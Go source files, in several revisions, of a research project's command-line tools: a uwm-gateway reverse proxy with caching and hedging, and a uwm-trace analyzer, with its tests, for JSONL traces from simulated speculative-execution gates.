	"strings"
	"syscall"
	"time"

	"uwm/internal/cluster"
	"uwm/internal/metrics"
	"uwm/internal/obs"
)

func main() {
	sigs := make(chan os.Signal, 1)
	signal.Notify(sigs, os.Interrupt, syscall.SIGTERM)
	os.Exit(realMain(os.Args[1:], sigs))
}

// realMain returns main's exit code so tests can drive the full
// lifecycle in-process: 0 ok, 1 runtime error, 2 usage error.
func realMain(args []string, sigs <-chan os.Signal) int {
	fs := flag.NewFlagSet("uwm-gateway", flag.ContinueOnError)
	var (
		addr     = fs.String("addr", "localhost:8090", "HTTP listen address (host:0 picks an ephemeral port)")
		addrFile = fs.String("addr-file", "", "write the bound address to this file once listening")
		backends = fs.String("backends", "", "comma-separated uwm-serve base URLs to front (required)")
		probe    = fs.Duration("probe-interval", time.Second, "backend health-probe period")
		drain    = fs.Duration("drain-timeout", 30*time.Second, "how long shutdown waits for in-flight proxied requests")

		cacheEntries = fs.Int("cache-entries", 1024, "result-cache entry bound (negative disables caching)")
		cacheBytes   = fs.Int("cache-bytes", 64<<20, "result-cache total byte bound")
		cacheTTL     = fs.Duration("cache-ttl", 10*time.Minute, "result-cache entry lifetime")

		hedge       = fs.Bool("hedge", true, "hedge slow sync submissions on a second backend")
		hedgeBudget = fs.Float64("hedge-budget", 0.10, "fraction of traffic allowed to hedge")
	)
	var obsCfg obs.Config
	obsCfg.AddFlags(fs)
	version := obs.AddVersionFlag(fs)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *version {
		obs.PrintVersion(os.Stdout, "uwm-gateway")
		return 0
	}
	if *backends == "" {
		fmt.Fprintln(os.Stderr, "uwm-gateway: -backends is required (comma-separated uwm-serve addresses)")
		return 2
	}
	var urls []string
	for _, u := range strings.Split(*backends, ",") {
		if u = strings.TrimSpace(u); u != "" {
			urls = append(urls, u)
		}
	}

	sess, err := obs.Start(obsCfg)
	if err != nil {
		fmt.Fprintln(os.Stderr, "uwm-gateway:", err)
		return 1
	}
	defer sess.Close()

	// Like uwm-serve, the gateway always keeps a registry so /metrics
	// works even without -metrics.
	reg := sess.Registry
	if reg == nil {
		reg = metrics.NewRegistry()
		obs.RegisterBuildInfo(reg)
	}

	gw, err := cluster.New(cluster.Config{
		Backends:      urls,
		ProbeInterval: *probe,
		CacheEntries:  *cacheEntries,
		CacheBytes:    *cacheBytes,
		CacheTTL:      *cacheTTL,
		Hedge:         *hedge,
		HedgeBudget:   *hedgeBudget,
		Metrics:       reg,
	})
	if err != nil {
		fmt.Fprintln(os.Stderr, "uwm-gateway:", err)
		return 2
	}

	mux := http.NewServeMux()
	mux.Handle("/", gw)
	mux.HandleFunc("GET /metrics", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4")
		reg.WriteText(w)
	})

	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		fmt.Fprintln(os.Stderr, "uwm-gateway:", err)
		gw.Close()
		return 1
	}
	if *addrFile != "" {
		if err := os.WriteFile(*addrFile, []byte(ln.Addr().String()), 0o644); err != nil {
			fmt.Fprintln(os.Stderr, "uwm-gateway:", err)
			ln.Close()
			gw.Close()
			return 1
		}
	}
	srv := &http.Server{Handler: mux}
	serveErr := make(chan error, 1)
	go func() { serveErr <- srv.Serve(ln) }()
	fmt.Fprintf(os.Stderr, "uwm-gateway: fronting %d backend(s), listening on http://%s/\n",
		len(urls), ln.Addr())

	select {
	case sig := <-sigs:
		fmt.Fprintf(os.Stderr, "uwm-gateway: %v: draining (timeout %s)\n", sig, *drain)
	case err := <-serveErr:
		fmt.Fprintln(os.Stderr, "uwm-gateway:", err)
		gw.Close()
		return 1
	}

	// Drain order: flip /healthz to draining first (a fronting LB stops
	// sending), then let in-flight proxied requests finish.
	gw.Close()
	ctx, cancel := context.WithTimeout(context.Background(), *drain)
	defer cancel()
	code := 0
	if err := srv.Shutdown(ctx); err != nil {
		srv.Close()
		fmt.Fprintln(os.Stderr, "uwm-gateway: http shutdown:", err)
		code = 1
	}
	if err := <-serveErr; err != nil && !errors.Is(err, http.ErrServerClosed) {
		fmt.Fprintln(os.Stderr, "uwm-gateway:", err)
		code = 1
	}
	return code
}
