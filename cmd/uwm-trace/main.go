// Command uwm-trace is the offline trace analyzer: it parses the JSONL
// event stream a `-trace-out file.jsonl` run produced and computes the
// reports the live path cannot — per-gate timeline reconstruction,
// speculative-window length distributions versus gate outcome (the
// paper's §4 race), contention detection inside open windows, and an
// HPC-style detectability summary replayed from the trace (§7).
//
// The profile mode rebuilds the virtual-cycle profile from a recording,
// producing exactly what a live `-cycleprof` session would have written
// for the same events:
//
//	uwm-gates -op tsx_and -truth -trace-out run.jsonl
//	uwm-trace run.jsonl                     # human-readable report
//	uwm-trace -format json run.jsonl | jq . # machine-readable report
//	uwm-trace - < run.jsonl                 # read from stdin
//	uwm-trace profile run.jsonl                      # top table
//	uwm-trace profile -format folded run.jsonl       # flamegraph stacks
//	uwm-trace profile -format pprof -o cyc.pb.gz run.jsonl
//
// The health mode replays the recording through the same gate-health
// monitor the serving workers run, so an offline verdict on a recorded
// trace matches what the live /v1/health/detail endpoint reported:
//
//	uwm-trace -health run.jsonl             # margin histogram + drift verdict
//	uwm-trace -health -format json run.jsonl
//	uwm-trace -job job-00000003 run.jsonl   # only that job's spans
//
// With -from, the recording is fetched from a live (or recently live)
// uwm-serve flight recorder instead of a file — the post-mortem loop
// without ever touching the server's disk:
//
//	uwm-trace -from http://127.0.0.1:8080 -job job-00000003
//	uwm-trace -from http://127.0.0.1:8080 -job <request id> -health
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"

	"uwm/internal/health"
	"uwm/internal/obs"
	"uwm/internal/trace"
	"uwm/internal/traceanalyze"
)

func main() {
	os.Exit(realMain(os.Args[1:]))
}

// realMain returns main's exit code so tests can drive the CLI.
func realMain(args []string) int {
	if len(args) > 0 && args[0] == "profile" {
		return profileMain(args[1:])
	}
	fs := flag.NewFlagSet("uwm-trace", flag.ContinueOnError)
	format := fs.String("format", "table", "output format: table or json")
	maxOverlaps := fs.Int("max-overlaps", 8, "contention incidents to list individually (counts stay exact)")
	healthMode := fs.Bool("health", false, "replay the trace through the gate-health monitor instead of analyzing it")
	job := fs.String("job", "", "restrict to spans annotated with this job or request id")
	from := fs.String("from", "", "fetch the trace from this uwm-serve base URL's flight recorder (requires -job) instead of reading a file")
	version := obs.AddVersionFlag(fs)
	fs.Usage = func() {
		fmt.Fprintf(fs.Output(), "usage: uwm-trace [-format table|json] [-health] [-job id] <trace.jsonl | ->\n")
		fmt.Fprintf(fs.Output(), "       uwm-trace [-format table|json] [-health] -from http://host:port -job id\n")
		fmt.Fprintf(fs.Output(), "       uwm-trace profile [-format top|folded|pprof] [-top n] [-o file] <trace.jsonl | ->\n")
		fs.PrintDefaults()
	}
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *version {
		obs.PrintVersion(os.Stdout, "uwm-trace")
		return 0
	}
	if *format != "table" && *format != "json" {
		fmt.Fprintf(os.Stderr, "uwm-trace: unknown format %q (want table or json)\n", *format)
		return 2
	}

	var (
		parsed *traceanalyze.ParseResult
		code   int
	)
	fetched := *from != ""
	if fetched {
		if *job == "" {
			fmt.Fprintln(os.Stderr, "uwm-trace: -from requires -job <job or request id>")
			return 2
		}
		if fs.NArg() != 0 {
			fs.Usage()
			return 2
		}
		parsed, code = fetchTrace(*from, *job)
	} else {
		if fs.NArg() != 1 {
			fs.Usage()
			return 2
		}
		parsed, code = parseArg(fs.Arg(0))
	}
	if parsed == nil {
		return code
	}
	events := parsed.Events
	// A fetched flight-record is already scoped to one job and seeded
	// with the monitor's state checkpoint, so the annotation filter (and
	// its calibration merge) only applies to on-disk multi-job streams.
	if *job != "" && !fetched {
		if events = traceanalyze.FilterByAnnotation(events, *job); len(events) == 0 {
			fmt.Fprintf(os.Stderr, "uwm-trace: no spans annotated with %q in the trace\n", *job)
			return 1
		}
	}

	if *healthMode {
		if *job != "" && !fetched {
			// A job-filtered replay still needs the calibration events:
			// they fire at machine construction and on recalibration,
			// outside any job span, and carry the threshold every margin
			// is measured against.
			events = mergeCalibrations(parsed.Events, events)
		}
		return healthMain(events, *format)
	}

	report := traceanalyze.Analyze(events, traceanalyze.Options{MaxOverlapSamples: *maxOverlaps})
	report.Truncated = parsed.Truncated

	switch *format {
	case "json":
		if err := report.WriteJSON(os.Stdout); err != nil {
			fmt.Fprintf(os.Stderr, "uwm-trace: %v\n", err)
			return 1
		}
	default:
		fmt.Print(report.RenderTable())
	}
	return 0
}

// healthMain is the `-health` mode: replay the recording through a
// fresh gate-health monitor — identical code to the live workers' — and
// print its snapshot.
func healthMain(events []trace.Event, format string) int {
	snap := health.Replay(events, health.Config{}).Snapshot()
	if format == "json" {
		enc := json.NewEncoder(os.Stdout)
		enc.SetIndent("", "  ")
		if err := enc.Encode(snap); err != nil {
			fmt.Fprintf(os.Stderr, "uwm-trace: %v\n", err)
			return 1
		}
		return 0
	}
	if snap.Reads == 0 {
		fmt.Fprintf(os.Stderr, "uwm-trace: warning: recording holds no timed reads; was it captured with tracing enabled?\n")
	}
	fmt.Print(health.RenderSnapshot(snap, 48))
	return 0
}

// mergeCalibrations re-inserts the calibration events of the full
// stream into a filtered subsequence, preserving order.
func mergeCalibrations(full, filtered []trace.Event) []trace.Event {
	out := make([]trace.Event, 0, len(filtered))
	j := 0
	for _, e := range full {
		switch {
		case j < len(filtered) && e == filtered[j]:
			out = append(out, e)
			j++
		case e.Kind == trace.KindCalibration:
			out = append(out, e)
		}
	}
	return out
}

// profileMain is the `uwm-trace profile` mode: rebuild the
// virtual-cycle profile offline from a JSONL recording.
func profileMain(args []string) int {
	fs := flag.NewFlagSet("uwm-trace profile", flag.ContinueOnError)
	format := fs.String("format", "top", "output format: top, folded or pprof")
	topN := fs.Int("top", 20, "rows in the top table (0 = all)")
	out := fs.String("o", "", "write to this file instead of stdout")
	fs.Usage = func() {
		fmt.Fprintf(fs.Output(), "usage: uwm-trace profile [-format top|folded|pprof] [-top n] [-o file] <trace.jsonl | ->\n")
		fs.PrintDefaults()
	}
	if err := fs.Parse(args); err != nil {
		return 2
	}
	switch *format {
	case "top", "folded", "pprof":
	default:
		fmt.Fprintf(os.Stderr, "uwm-trace: unknown profile format %q (want top, folded or pprof)\n", *format)
		return 2
	}
	if fs.NArg() != 1 {
		fs.Usage()
		return 2
	}

	parsed, code := parseArg(fs.Arg(0))
	if parsed == nil {
		return code
	}
	prof := traceanalyze.BuildProfile(parsed.Events)
	if prof.SpanEvents() == 0 {
		fmt.Fprintf(os.Stderr, "uwm-trace: warning: recording holds no span events; the profile only covers the program frame\n")
	}

	var w io.Writer = os.Stdout
	if *out != "" {
		f, err := os.Create(*out)
		if err != nil {
			fmt.Fprintf(os.Stderr, "uwm-trace: %v\n", err)
			return 1
		}
		defer f.Close()
		w = f
	}
	var err error
	switch *format {
	case "folded":
		err = prof.WriteFolded(w)
	case "pprof":
		err = prof.WritePprof(w)
	default:
		err = prof.WriteTop(w, *topN)
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "uwm-trace: %v\n", err)
		return 1
	}
	return 0
}

// fetchTrace downloads a kept flight-record from a live uwm-serve
// (GET /v1/jobs/{id}/trace?format=jsonl) and parses it with the same
// truncation handling as a file, so a trace cut off by a dying
// connection still analyzes its intact prefix. A nil result carries
// the exit code.
func fetchTrace(base, id string) (*traceanalyze.ParseResult, int) {
	u := strings.TrimRight(base, "/") + "/v1/jobs/" + url.PathEscape(id) + "/trace?format=jsonl"
	resp, err := http.Get(u)
	if err != nil {
		fmt.Fprintf(os.Stderr, "uwm-trace: %v\n", err)
		return nil, 1
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		body, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
		fmt.Fprintf(os.Stderr, "uwm-trace: %s: %s\n%s", u, resp.Status, body)
		return nil, 1
	}
	parsed, err := traceanalyze.ParseJSONL(resp.Body)
	if err != nil {
		fmt.Fprintf(os.Stderr, "uwm-trace: %v\n", err)
		return nil, 1
	}
	if parsed.Truncated {
		fmt.Fprintf(os.Stderr, "uwm-trace: warning: truncated final line dropped; analyzing the %d-event prefix\n", len(parsed.Events))
	}
	return parsed, 0
}

// parseArg reads a JSONL recording from the path or stdin ("-"),
// reporting errors and truncation on stderr. A nil result carries the
// exit code.
func parseArg(path string) (*traceanalyze.ParseResult, int) {
	var (
		parsed *traceanalyze.ParseResult
		err    error
	)
	if path == "-" {
		parsed, err = traceanalyze.ParseJSONL(os.Stdin)
	} else {
		parsed, err = traceanalyze.ParseFile(path)
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "uwm-trace: %v\n", err)
		return nil, 1
	}
	if parsed.Truncated {
		fmt.Fprintf(os.Stderr, "uwm-trace: warning: truncated final line dropped; analyzing the %d-event prefix\n", len(parsed.Events))
	}
	return parsed, 0
}
