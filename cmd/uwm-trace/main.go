// Command uwm-trace is the offline trace analyzer: it parses the JSONL
// event stream a `-trace-out file.jsonl` run produced and computes the
// reports the live path cannot — per-gate timeline reconstruction,
// speculative-window length distributions versus gate outcome (the
// paper's §4 race), contention detection inside open windows, and an
// HPC-style detectability summary replayed from the trace (§7).
//
// The profile mode rebuilds the virtual-cycle profile from a recording,
// producing exactly what a live `-cycleprof` session would have written
// for the same events:
//
//	uwm-gates -op tsx_and -truth -trace-out run.jsonl
//	uwm-trace run.jsonl                     # human-readable report
//	uwm-trace -format json run.jsonl | jq . # machine-readable report
//	uwm-trace - < run.jsonl                 # read from stdin
//	uwm-trace profile run.jsonl                      # top table
//	uwm-trace profile -format folded run.jsonl       # flamegraph stacks
//	uwm-trace profile -format pprof -o cyc.pb.gz run.jsonl
package main

import (
	"flag"
	"fmt"
	"io"
	"os"

	"uwm/internal/traceanalyze"
)

func main() {
	os.Exit(realMain(os.Args[1:]))
}

// realMain returns main's exit code so tests can drive the CLI.
func realMain(args []string) int {
	if len(args) > 0 && args[0] == "profile" {
		return profileMain(args[1:])
	}
	fs := flag.NewFlagSet("uwm-trace", flag.ContinueOnError)
	format := fs.String("format", "table", "output format: table or json")
	maxOverlaps := fs.Int("max-overlaps", 8, "contention incidents to list individually (counts stay exact)")
	fs.Usage = func() {
		fmt.Fprintf(fs.Output(), "usage: uwm-trace [-format table|json] <trace.jsonl | ->\n")
		fmt.Fprintf(fs.Output(), "       uwm-trace profile [-format top|folded|pprof] [-top n] [-o file] <trace.jsonl | ->\n")
		fs.PrintDefaults()
	}
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *format != "table" && *format != "json" {
		fmt.Fprintf(os.Stderr, "uwm-trace: unknown format %q (want table or json)\n", *format)
		return 2
	}
	if fs.NArg() != 1 {
		fs.Usage()
		return 2
	}

	parsed, code := parseArg(fs.Arg(0))
	if parsed == nil {
		return code
	}

	report := traceanalyze.Analyze(parsed.Events, traceanalyze.Options{MaxOverlapSamples: *maxOverlaps})
	report.Truncated = parsed.Truncated

	switch *format {
	case "json":
		if err := report.WriteJSON(os.Stdout); err != nil {
			fmt.Fprintf(os.Stderr, "uwm-trace: %v\n", err)
			return 1
		}
	default:
		fmt.Print(report.RenderTable())
	}
	return 0
}

// profileMain is the `uwm-trace profile` mode: rebuild the
// virtual-cycle profile offline from a JSONL recording.
func profileMain(args []string) int {
	fs := flag.NewFlagSet("uwm-trace profile", flag.ContinueOnError)
	format := fs.String("format", "top", "output format: top, folded or pprof")
	topN := fs.Int("top", 20, "rows in the top table (0 = all)")
	out := fs.String("o", "", "write to this file instead of stdout")
	fs.Usage = func() {
		fmt.Fprintf(fs.Output(), "usage: uwm-trace profile [-format top|folded|pprof] [-top n] [-o file] <trace.jsonl | ->\n")
		fs.PrintDefaults()
	}
	if err := fs.Parse(args); err != nil {
		return 2
	}
	switch *format {
	case "top", "folded", "pprof":
	default:
		fmt.Fprintf(os.Stderr, "uwm-trace: unknown profile format %q (want top, folded or pprof)\n", *format)
		return 2
	}
	if fs.NArg() != 1 {
		fs.Usage()
		return 2
	}

	parsed, code := parseArg(fs.Arg(0))
	if parsed == nil {
		return code
	}
	prof := traceanalyze.BuildProfile(parsed.Events)
	if prof.SpanEvents() == 0 {
		fmt.Fprintf(os.Stderr, "uwm-trace: warning: recording holds no span events; the profile only covers the program frame\n")
	}

	var w io.Writer = os.Stdout
	if *out != "" {
		f, err := os.Create(*out)
		if err != nil {
			fmt.Fprintf(os.Stderr, "uwm-trace: %v\n", err)
			return 1
		}
		defer f.Close()
		w = f
	}
	var err error
	switch *format {
	case "folded":
		err = prof.WriteFolded(w)
	case "pprof":
		err = prof.WritePprof(w)
	default:
		err = prof.WriteTop(w, *topN)
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "uwm-trace: %v\n", err)
		return 1
	}
	return 0
}

// parseArg reads a JSONL recording from the path or stdin ("-"),
// reporting errors and truncation on stderr. A nil result carries the
// exit code.
func parseArg(path string) (*traceanalyze.ParseResult, int) {
	var (
		parsed *traceanalyze.ParseResult
		err    error
	)
	if path == "-" {
		parsed, err = traceanalyze.ParseJSONL(os.Stdin)
	} else {
		parsed, err = traceanalyze.ParseFile(path)
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "uwm-trace: %v\n", err)
		return nil, 1
	}
	if parsed.Truncated {
		fmt.Fprintf(os.Stderr, "uwm-trace: warning: truncated final line dropped; analyzing the %d-event prefix\n", len(parsed.Events))
	}
	return parsed, 0
}
