// Command uwm-trace is the offline trace analyzer: it parses the JSONL
// event stream a `-trace-out file.jsonl` run produced and computes the
// reports the live path cannot — per-gate timeline reconstruction,
// speculative-window length distributions versus gate outcome (the
// paper's §4 race), contention detection inside open windows, and an
// HPC-style detectability summary replayed from the trace (§7).
//
// Usage:
//
//	uwm-gates -op tsx_and -truth -trace-out run.jsonl
//	uwm-trace run.jsonl                     # human-readable report
//	uwm-trace -format json run.jsonl | jq . # machine-readable report
//	uwm-trace - < run.jsonl                 # read from stdin
package main

import (
	"flag"
	"fmt"
	"os"

	"uwm/internal/traceanalyze"
)

func main() {
	os.Exit(realMain(os.Args[1:]))
}

// realMain returns main's exit code so tests can drive the CLI.
func realMain(args []string) int {
	fs := flag.NewFlagSet("uwm-trace", flag.ContinueOnError)
	format := fs.String("format", "table", "output format: table or json")
	maxOverlaps := fs.Int("max-overlaps", 8, "contention incidents to list individually (counts stay exact)")
	fs.Usage = func() {
		fmt.Fprintf(fs.Output(), "usage: uwm-trace [-format table|json] <trace.jsonl | ->\n")
		fs.PrintDefaults()
	}
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *format != "table" && *format != "json" {
		fmt.Fprintf(os.Stderr, "uwm-trace: unknown format %q (want table or json)\n", *format)
		return 2
	}
	if fs.NArg() != 1 {
		fs.Usage()
		return 2
	}

	path := fs.Arg(0)
	var (
		parsed *traceanalyze.ParseResult
		err    error
	)
	if path == "-" {
		parsed, err = traceanalyze.ParseJSONL(os.Stdin)
	} else {
		parsed, err = traceanalyze.ParseFile(path)
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "uwm-trace: %v\n", err)
		return 1
	}
	if parsed.Truncated {
		fmt.Fprintf(os.Stderr, "uwm-trace: warning: truncated final line dropped; analyzing the %d-event prefix\n", len(parsed.Events))
	}

	report := traceanalyze.Analyze(parsed.Events, traceanalyze.Options{MaxOverlapSamples: *maxOverlaps})
	report.Truncated = parsed.Truncated

	switch *format {
	case "json":
		if err := report.WriteJSON(os.Stdout); err != nil {
			fmt.Fprintf(os.Stderr, "uwm-trace: %v\n", err)
			return 1
		}
	default:
		fmt.Print(report.RenderTable())
	}
	return 0
}
