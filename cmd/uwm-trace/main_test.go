package main

import (
	"os"
	"path/filepath"
	"testing"

	"uwm/internal/core"
	"uwm/internal/noise"
	"uwm/internal/trace"
)

// writeGateTrace produces a real JSONL trace by running a TSX gate with
// the streaming sink attached — the same path `uwm-gates -trace-out`
// uses.
func writeGateTrace(t *testing.T, path string) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	sink := trace.NewJSONLSink(f)
	m, err := core.NewMachine(core.Options{Seed: 11, Noise: noise.Paper(), TrainIterations: 3, Sink: sink})
	if err != nil {
		t.Fatal(err)
	}
	g, err := core.NewTSXAndOr(m)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 4; i++ {
		if _, err := g.Run(i&1, (i>>1)&1); err != nil {
			t.Fatal(err)
		}
	}
	if err := sink.Close(); err != nil {
		t.Fatal(err)
	}
}

func TestCLIBothFormats(t *testing.T) {
	path := filepath.Join(t.TempDir(), "run.jsonl")
	writeGateTrace(t, path)
	for _, format := range []string{"table", "json"} {
		if code := realMain([]string{"-format", format, path}); code != 0 {
			t.Errorf("realMain(-format %s) = %d, want 0", format, code)
		}
	}
}

func TestCLIUsageErrors(t *testing.T) {
	if code := realMain(nil); code != 2 {
		t.Errorf("no args: exit %d, want 2", code)
	}
	if code := realMain([]string{"-format", "xml", "x.jsonl"}); code != 2 {
		t.Errorf("bad format: exit %d, want 2", code)
	}
	if code := realMain([]string{filepath.Join(t.TempDir(), "missing.jsonl")}); code != 1 {
		t.Errorf("missing file: exit %d, want 1", code)
	}
}
