package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"testing"

	"uwm/internal/core"
	"uwm/internal/health"
	"uwm/internal/noise"
	"uwm/internal/trace"
)

// writeGateTrace produces a real JSONL trace by running a TSX gate with
// the streaming sink attached — the same path `uwm-gates -trace-out`
// uses. Each gate run gets its own annotated span, mimicking how the
// engine brackets jobs, so the -job filter has something to select.
func writeGateTrace(t *testing.T, path string) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	sink := trace.NewJSONLSink(f)
	m, err := core.NewMachine(core.Options{Seed: 11, Noise: noise.Paper(), TrainIterations: 3, Sink: sink})
	if err != nil {
		t.Fatal(err)
	}
	g, err := core.NewTSXAndOr(m)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 4; i++ {
		id := m.BeginSpan("job:gate")
		m.Annotate(fmt.Sprintf("job=job-%08d", i+1))
		if _, err := g.Run(i&1, (i>>1)&1); err != nil {
			t.Fatal(err)
		}
		m.EndSpan(id)
	}
	if err := sink.Close(); err != nil {
		t.Fatal(err)
	}
}

func TestCLIBothFormats(t *testing.T) {
	path := filepath.Join(t.TempDir(), "run.jsonl")
	writeGateTrace(t, path)
	for _, format := range []string{"table", "json"} {
		if code := realMain([]string{"-format", format, path}); code != 0 {
			t.Errorf("realMain(-format %s) = %d, want 0", format, code)
		}
	}
}

func TestCLIUsageErrors(t *testing.T) {
	if code := realMain(nil); code != 2 {
		t.Errorf("no args: exit %d, want 2", code)
	}
	if code := realMain([]string{"-format", "xml", "x.jsonl"}); code != 2 {
		t.Errorf("bad format: exit %d, want 2", code)
	}
	if code := realMain([]string{filepath.Join(t.TempDir(), "missing.jsonl")}); code != 1 {
		t.Errorf("missing file: exit %d, want 1", code)
	}
	if code := realMain([]string{"profile", "-format", "xml", "x.jsonl"}); code != 2 {
		t.Errorf("profile bad format: exit %d, want 2", code)
	}
	if code := realMain([]string{"profile"}); code != 2 {
		t.Errorf("profile no args: exit %d, want 2", code)
	}
}

// stdoutTo redirects os.Stdout into a file and returns its path.
func stdoutTo(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "stdout")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	old := os.Stdout
	os.Stdout = f
	t.Cleanup(func() {
		os.Stdout = old
		f.Close()
	})
	return path
}

func TestCLIHealthMode(t *testing.T) {
	path := filepath.Join(t.TempDir(), "run.jsonl")
	writeGateTrace(t, path)

	out := stdoutTo(t)
	if code := realMain([]string{"-health", "-format", "json", path}); code != 0 {
		t.Fatalf("-health -format json: exit %d", code)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	var snap health.Snapshot
	if err := json.Unmarshal(data, &snap); err != nil {
		t.Fatalf("health output is not a snapshot: %v\n%s", err, data)
	}
	if snap.Calibrations != 1 || snap.Threshold == 0 {
		t.Errorf("replayed snapshot missing calibration: %+v", snap)
	}
	if snap.Reads == 0 {
		t.Error("replayed snapshot saw no timed reads")
	}

	// Table format renders without error.
	if code := realMain([]string{"-health", path}); code != 0 {
		t.Errorf("-health table: exit %d", code)
	}
}

func TestCLIJobFilter(t *testing.T) {
	path := filepath.Join(t.TempDir(), "run.jsonl")
	writeGateTrace(t, path)

	// A single job's health replay sees fewer reads than the whole
	// trace, but still knows the threshold from the merged-in
	// calibration event.
	out := stdoutTo(t)
	if code := realMain([]string{"-health", "-format", "json", "-job", "job-00000002", path}); code != 0 {
		t.Fatalf("-health -job: exit %d", code)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	var one health.Snapshot
	if err := json.Unmarshal(data, &one); err != nil {
		t.Fatal(err)
	}
	if one.Threshold == 0 || one.Calibrations != 1 {
		t.Errorf("job-filtered replay lost the calibration: %+v", one)
	}
	if one.Reads == 0 {
		t.Error("job-filtered replay saw no reads")
	}
	whole := health.Replay(mustParse(t, path), health.Config{}).Snapshot()
	if one.Reads >= whole.Reads {
		t.Errorf("job filter kept %d of %d reads, want a strict subset", one.Reads, whole.Reads)
	}

	// The analyze path accepts -job too; an unknown id is an error.
	if code := realMain([]string{"-job", "job-00000001", path}); code != 0 {
		t.Errorf("analyze -job: exit %d", code)
	}
	if code := realMain([]string{"-job", "job-99999999", path}); code != 1 {
		t.Errorf("unknown -job: exit %d, want 1", code)
	}
}

func mustParse(t *testing.T, path string) []trace.Event {
	t.Helper()
	parsed, code := parseArg(path)
	if parsed == nil {
		t.Fatalf("parseArg(%s): exit %d", path, code)
	}
	return parsed.Events
}

// stdinFrom redirects os.Stdin to the given file for one test.
func stdinFrom(t *testing.T, path string) {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	old := os.Stdin
	os.Stdin = f
	t.Cleanup(func() {
		os.Stdin = old
		f.Close()
	})
}

func TestCLIReadsStdin(t *testing.T) {
	path := filepath.Join(t.TempDir(), "run.jsonl")
	writeGateTrace(t, path)
	stdinFrom(t, path)
	if code := realMain([]string{"-"}); code != 0 {
		t.Errorf("realMain(-) = %d, want 0", code)
	}
}

func TestCLIProfileMode(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "run.jsonl")
	writeGateTrace(t, path)

	for _, format := range []string{"top", "folded"} {
		if code := realMain([]string{"profile", "-format", format, path}); code != 0 {
			t.Errorf("profile -format %s: exit %d, want 0", format, code)
		}
	}

	folded := filepath.Join(dir, "cycles.folded")
	if code := realMain([]string{"profile", "-format", "folded", "-o", folded, path}); code != 0 {
		t.Fatalf("profile -o: nonzero exit %d", code)
	}
	data, err := os.ReadFile(folded)
	if err != nil {
		t.Fatal(err)
	}
	if len(data) == 0 || data[0] == 0 {
		t.Fatalf("folded output empty or binary: %q", data[:min(len(data), 40)])
	}

	pb := filepath.Join(dir, "cycles.pb.gz")
	if code := realMain([]string{"profile", "-format", "pprof", "-o", pb, path}); code != 0 {
		t.Fatalf("profile pprof: nonzero exit %d", code)
	}
	gz, err := os.ReadFile(pb)
	if err != nil {
		t.Fatal(err)
	}
	if len(gz) < 2 || gz[0] != 0x1f || gz[1] != 0x8b {
		t.Fatalf("pprof output is not gzip (magic %x)", gz[:min(len(gz), 2)])
	}

	// Profile mode must accept stdin too.
	stdinFrom(t, path)
	if code := realMain([]string{"profile", "-"}); code != 0 {
		t.Errorf("profile -: exit %d, want 0", code)
	}
}
