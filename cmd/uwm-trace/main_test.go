package main

import (
	"os"
	"path/filepath"
	"testing"

	"uwm/internal/core"
	"uwm/internal/noise"
	"uwm/internal/trace"
)

// writeGateTrace produces a real JSONL trace by running a TSX gate with
// the streaming sink attached — the same path `uwm-gates -trace-out`
// uses.
func writeGateTrace(t *testing.T, path string) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	sink := trace.NewJSONLSink(f)
	m, err := core.NewMachine(core.Options{Seed: 11, Noise: noise.Paper(), TrainIterations: 3, Sink: sink})
	if err != nil {
		t.Fatal(err)
	}
	g, err := core.NewTSXAndOr(m)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 4; i++ {
		if _, err := g.Run(i&1, (i>>1)&1); err != nil {
			t.Fatal(err)
		}
	}
	if err := sink.Close(); err != nil {
		t.Fatal(err)
	}
}

func TestCLIBothFormats(t *testing.T) {
	path := filepath.Join(t.TempDir(), "run.jsonl")
	writeGateTrace(t, path)
	for _, format := range []string{"table", "json"} {
		if code := realMain([]string{"-format", format, path}); code != 0 {
			t.Errorf("realMain(-format %s) = %d, want 0", format, code)
		}
	}
}

func TestCLIUsageErrors(t *testing.T) {
	if code := realMain(nil); code != 2 {
		t.Errorf("no args: exit %d, want 2", code)
	}
	if code := realMain([]string{"-format", "xml", "x.jsonl"}); code != 2 {
		t.Errorf("bad format: exit %d, want 2", code)
	}
	if code := realMain([]string{filepath.Join(t.TempDir(), "missing.jsonl")}); code != 1 {
		t.Errorf("missing file: exit %d, want 1", code)
	}
	if code := realMain([]string{"profile", "-format", "xml", "x.jsonl"}); code != 2 {
		t.Errorf("profile bad format: exit %d, want 2", code)
	}
	if code := realMain([]string{"profile"}); code != 2 {
		t.Errorf("profile no args: exit %d, want 2", code)
	}
}

// stdinFrom redirects os.Stdin to the given file for one test.
func stdinFrom(t *testing.T, path string) {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	old := os.Stdin
	os.Stdin = f
	t.Cleanup(func() {
		os.Stdin = old
		f.Close()
	})
}

